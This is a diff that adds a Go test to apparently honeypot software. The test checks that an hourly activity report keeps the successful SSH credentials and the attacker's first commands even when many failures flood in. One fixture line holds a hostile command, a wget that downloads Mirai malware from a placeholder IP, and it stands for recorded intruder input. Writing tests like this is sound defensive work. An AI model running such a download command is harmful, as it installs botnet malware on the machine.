@@ -375,3 +375,33 @@ func TestEstimatesClaimNoMoreThanWasSeen(t *testing.T) {
 		})
 	}
 }
+
+// The same of an hour: what a decoy let in, what came first, and the first
+// commands stay, whatever else is tried.
+func TestAnHoursCredentialsThatWorkedStay(t *testing.T) {
+	fail := func(i int) event.Evidence { return password("x", long(i, i%300), event.Failure) }
+	works := func(i int) event.Evidence { return password("x", fmt.Sprint("s", i), event.Success) }
+	types := func(i int) event.Evidence { return event.Evidence{Kind: event.Command, A: "true " + long(i, 4000)} }
+	truth := []event.Evidence{password("root", "true-1", event.Success), password("admin", "true-2", event.Success)}
+	first := []event.Evidence{password("root", "first-1", event.Failure), {Kind: event.Command, A: "wget http://198.51.100.7/mirai"}}
+	for name, c := range map[string]struct {
+		all   []event.Evidence
+		shown []string
+	}{
+		"worked, before failures":  {slices.Concat(truth, items(fail)), []string{`"secret":"true-1"`, `"secret":"true-2"`}},
+		"worked, between failures": {slices.Concat(items(fail)[:flood/2], truth, items(fail)[flood/2:]), []string{`"secret":"true-1"`, `"secret":"true-2"`}},
+		"worked, behind failures":  {slices.Concat(items(fail), truth), []string{`"secret":"true-1"`, `"secret":"true-2"`}},
+		"came first":               {slices.Concat(first, items(fail), items(works), items(types)), []string{`"secret":"first-1"`, `"command":"wget http://198.51.100.7/mirai"`}},
+		"worked first":             {slices.Concat(truth, items(works)), []string{`"secret":"true-1"`, `"secret":"true-2"`}},
+	} {
+		a, s := new(event.Arena), new(state.Activity)
+		s.By(secretRank)
+		for i := range c.all {
+			s.Fold(a, "sensor-1", []*event.Event{{Time: event.FromTime(at) + event.Time(i), Service: "ssh", Kind: event.Interaction, Evidence: c.all[i : i+1]}})
+		}
+		doc := newRenderer(t).AppendActivity(nil, correlate.Head{Addr: netip.MustParseAddr("203.0.113.7"), ID: "203.0.113.7", Now: at}, event.FromTime(at).Hour(), s)
+		if n := missing(string(doc), c.shown); n > 0 {
+			t.Errorf("%s: %d of %d are gone", name, n, len(c.shown))
+		}
+	}
+}
